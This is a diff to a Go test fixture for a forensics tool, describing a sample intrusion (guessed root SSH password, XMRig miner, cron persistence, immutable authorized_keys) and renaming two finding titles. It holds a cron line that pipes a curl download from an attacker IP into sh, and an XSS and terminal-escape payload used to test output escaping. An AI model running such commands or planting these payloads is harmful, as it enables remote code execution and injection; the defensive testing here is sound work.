@@ -68,8 +68,8 @@ func intrusion() *forensics.Analysis {
 			{ID: "F-0001", Rule: "guessed_password", Engine: "analysis", Title: "Login of root from 203.0.113.77 after its password was guessed", Description: "640 failed logins, then one that was accepted.", Level: "critical", Techniques: []string{"T1110.001", "T1078"}, Phase: "initial-access", Time: "2026-01-12T08:58:31Z", TimeInferred: "year, zone", Records: []string{"R-000001"}, Source: packed, Excerpt: "Jan 12 16:58:31 web01 sshd[22001]: Accepted password for root from 203.0.113.77 port 41022 ssh2"},
 			{ID: "F-0002", Rule: "XMRig_Binary", Engine: "yara", Title: "Program matches the YARA rule XMRig_Binary", Level: "critical", Phase: "mining", Time: "2026-01-12T09:00:01.5Z", Records: []string{"R-000002"}, Source: src("/tmp/.ICE-unix/.x/kswapd0", 0), Excerpt: "-o, --url=URL       URL of mining server"},
 			{ID: "F-0003", Rule: "XMRig_Binary", Engine: "yara", Title: "Program matches the YARA rule XMRig_Binary", Level: "critical", Phase: "mining", Records: []string{"R-000002"}, Source: orphan},
-			{ID: "F-0004", Rule: "cron_pipe_to_shell", Engine: "sigma", Title: "Cron job runs what it downloads", Level: "high", Techniques: []string{"T1053.003"}, Phase: "persistence", Time: "2026-01-12T09:02:00Z", Records: []string{"R-000003"}, Source: src(text.Escape("/etc/cron.d/\x1b[2J<script>alert(1)</script>\u202e汉字"), 1), Excerpt: text.Escape("* * * * * root curl -s http://203.0.113.77/\x1b]0;x\x07 | sh")},
-			{ID: "F-0005", Rule: "file_immutable", Engine: "sigma", Title: "File that cannot be changed", Level: "medium", Phase: "persistence", Records: []string{}, Source: src("/root/.ssh/authorized_keys", 0)},
+			{ID: "F-0004", Rule: "cron_pipe_to_shell", Engine: "sigma", Title: "Cron Job Downloads and Executes Code", Level: "high", Techniques: []string{"T1053.003"}, Phase: "persistence", Time: "2026-01-12T09:02:00Z", Records: []string{"R-000003"}, Source: src(text.Escape("/etc/cron.d/\x1b[2J<script>alert(1)</script>\u202e汉字"), 1), Excerpt: text.Escape("* * * * * root curl -s http://203.0.113.77/\x1b]0;x\x07 | sh")},
+			{ID: "F-0005", Rule: "file_immutable", Engine: "sigma", Title: "Immutable Attribute on Sensitive File", Level: "medium", Phase: "persistence", Records: []string{}, Source: src("/root/.ssh/authorized_keys", 0)},
 			{ID: "F-0006", Rule: "guessing", Engine: "analysis", Title: "Passwords were guessed from 186 addresses", Level: "low", Phase: "initial-access"},
 		},
 		Records: []forensics.RecordInfo{
@@ -80,7 +80,7 @@ func intrusion() *forensics.Analysis {
 		Story: []forensics.StoryInfo{
 			{Time: "2026-01-12T08:58:31Z", Phase: "initial-access", Text: "Login of root from 203.0.113.77 after its password was guessed", Finding: "F-0001"},
 			{Time: "2026-01-12T09:00:01.5Z", Phase: "mining", Text: "Program matches the YARA rule XMRig_Binary: /tmp/.ICE-unix/.x/kswapd0", Finding: "F-0002"},
-			{Phase: "persistence", Text: "File that cannot be changed: /root/.ssh/authorized_keys", Finding: "F-0005"},
+			{Phase: "persistence", Text: "Immutable Attribute on Sensitive File: /root/.ssh/authorized_keys", Finding: "F-0005"},
 		},
 		Coverage: forensics.Coverage{Files: 23908, BytesScanned: 536649303, NotRead: []forensics.NotRead{
 			{What: "volume p15 (vfat)", Why: "a FAT filesystem (an EFI system partition?): not read by this version"},
